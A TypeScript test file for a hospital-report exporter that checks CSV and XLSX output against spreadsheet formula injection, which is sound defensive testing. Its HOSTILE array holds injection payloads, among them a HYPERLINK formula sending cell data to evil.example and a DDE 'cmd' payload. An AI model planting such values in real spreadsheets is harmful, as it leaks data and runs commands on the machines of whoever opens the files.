import t from 'tap';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { tableToCsv, tablesToXlsxBuffer } from './export-report.js';
import type { ReportTable } from './report-tables.js';

/** HIS values a careless or hostile HIS can put in a department, doctor or item name. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+86-10-1234', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];

interface Row {
  code: string;
  name: string;
  amount: number;
}

const table: ReportTable<Row> = {
  sheet: '按科室',
  slug: 'departments',
  columns: [
    { header: '项目编码', value: (r) => r.code, format: 'text' },
    { header: '科室名称', value: (r) => r.name, format: 'text' },
    { header: '违规金额(元)', value: (r) => r.amount, format: 'money' },
  ],
  rows: [{ code: 'XL02BBA326A001010102180', name: '阿帕他胺片', amount: -12.5 }, ...HOSTILE.map((name) => ({ code: 'XL02BBA326A001010102180', name, amount: 100 }))],
};

/** Reads the CSV back as a spreadsheet would (csv-parse: BOM, quotes, CRLF rows). */
const parseCsv = (text: string): string[][] => parse(text, { bom: true, record_delimiter: '\r\n' });

t.test('CSV: a HIS value that starts like a formula is written as text (OWASP CSV injection, issue 10 #17)', async (t) => {
  const csv = tableToCsv(table);
  const rows = parseCsv(csv);
  t.equal(rows.length, 1 + 1 + HOSTILE.length);
  for (const [i, value] of HOSTILE.entries()) {
    const cell = rows[i + 2][1];
    t.equal(cell, `'${value}`, JSON.stringify(value));
  }
  // The raw text quotes every neutralised cell, so no spreadsheet sees a bare leading = + - @.
  for (const line of csv.split('\r\n').slice(2, -1)) t.match(line, /^XL02BBA326A001010102180,"'/, line);
  // Ordinary values, our own numbers (a negative amount) and the codes stay as they were.
  t.same(rows[1], ['XL02BBA326A001010102180', '阿帕他胺片', '-12.50']);
});

t.test('XLSX: the same values are string cells, never formulas (issue 10 #17)', async (t) => {
  const buf = await tablesToXlsxBuffer([table as ReportTable]);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as never);
  const ws = wb.getWorksheet('按科室')!;
  for (const [i, value] of HOSTILE.entries()) {
    const cell = ws.getCell(`B${i + 3}`);
    t.equal(cell.type, ExcelJS.ValueType.String, JSON.stringify(value));
    t.equal(cell.formula, undefined);
    // The value itself is kept (a string cell is never evaluated); XML turns a bare CR into LF.
    t.equal(cell.value, value.replace(/\r/g, '\n'), 'value kept');
  }
  t.equal(ws.getCell('C2').value, -12.5);
});
